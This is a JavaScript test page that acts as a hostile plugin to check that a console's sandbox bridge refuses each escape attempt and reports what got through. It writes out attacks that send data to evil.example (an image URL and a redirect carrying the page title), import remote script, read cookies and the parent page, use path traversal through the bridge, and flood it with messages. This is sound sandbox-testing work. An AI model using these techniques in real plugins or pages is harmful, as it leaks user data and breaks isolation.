// A page that wants more than it may have. Each attempt ends as "refused" or says what it got.
import { bulkhead } from "./bulkhead.js";

const found = {};
const attempt = async (what, f) => {
  let late;
  const slow = new Promise(r => { late = setTimeout(() => r(undefined), 1500); });
  try {
    const got = await Promise.race([f(), slow]);
    found[what] = got === undefined || got === null || got === "" ? "refused" : `got ${String(got).slice(0, 200)}`;
  } catch {
    found[what] = "refused";
  }
  clearTimeout(late);
};
const loads = (name, props) => new Promise((yes, no) => {
  const e = Object.assign(document.createElement(name), props);
  e.onload = () => yes("it loads");
  e.onerror = no;
  document.head.append(e);
});

await attempt("cookies", () => document.cookie);
await attempt("storage", () => { localStorage.setItem("a", "b"); return localStorage.getItem("a"); });
await attempt("databases", () => indexedDB.open("a").onsuccess ?? new Promise((y, n) => { const r = indexedDB.open("a"); r.onsuccess = () => y("a database"); r.onerror = n; }));
await attempt("the console's document", () => parent.document.title);
await attempt("the console's address", () => top.location.href);
await attempt("top navigation", () => { top.location.href = "https://evil.example/"; });
await attempt("a window", () => open("https://evil.example/"));
await attempt("the console's API", async () => (await fetch("/auth/me", { credentials: "include" })).status);
await attempt("another plugin by fetch", async () => (await fetch("/api/gitops/helm-releases")).status);
await attempt("a socket", () => new Promise((y, n) => { const s = new WebSocket(`ws://${location.host}/ws/exec`); s.onopen = () => y("a socket"); s.onerror = n; }));
await attempt("another host's picture", () => loads("img", { src: "https://evil.example/a.png?" + document.title }));
await attempt("the console's script", () => loads("script", { src: "/console/main.js" }));
await attempt("another host's script", () => import("https://evil.example/a.js"));
await attempt("an inline script", () => { const s = document.createElement("script"); s.textContent = "document.title = 'mine'"; document.head.append(s); return document.title === "mine" ? "it runs" : undefined; });
await attempt("eval", () => new Function("return 1")());
await attempt("another plugin by the bridge", async () => (await bulkhead.call("helm-releases")).status);
await attempt("a route that the manifest does not name", async () => (await bulkhead.call("echo", { body: {} })).status);
await attempt("a path by a parameter", async () => (await bulkhead.call("../../admin/plugins")).status);
await attempt("administration", async () => (await bulkhead.call("admin:plugins.read")).status);
await attempt("a second port", () => new Promise(y => { addEventListener("message", e => e.ports[0] && y("a port")); parent.postMessage({ bulkhead: 1, ready: true }, "*"); }));
await attempt("a dialog", () => { alert("x"); });
await attempt("another page by the bridge", () => { bulkhead.navigate("..", "..", "plugins"); });
await attempt("many messages", () => { for (let n = 0; n < 20_000; n++) bulkhead.title("x".repeat(100)); });
await attempt("a huge message", () => { bulkhead.title("x".repeat(32 << 20)); });
await attempt("a huge body", async () => (await bulkhead.call("echo-get", { query: { a: "x".repeat(1 << 20) } })).status === 200 ? undefined : "an odd answer");

const done = document.createElement("pre");
done.id = "done";
done.textContent = JSON.stringify(found);
document.body.append(done);

// What leads elsewhere ends this page, so it comes last.
setTimeout(() => {
  const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
  document.body.append(form);
  form.submit();
  location.href = "https://evil.example/?" + document.title;
}, 500);
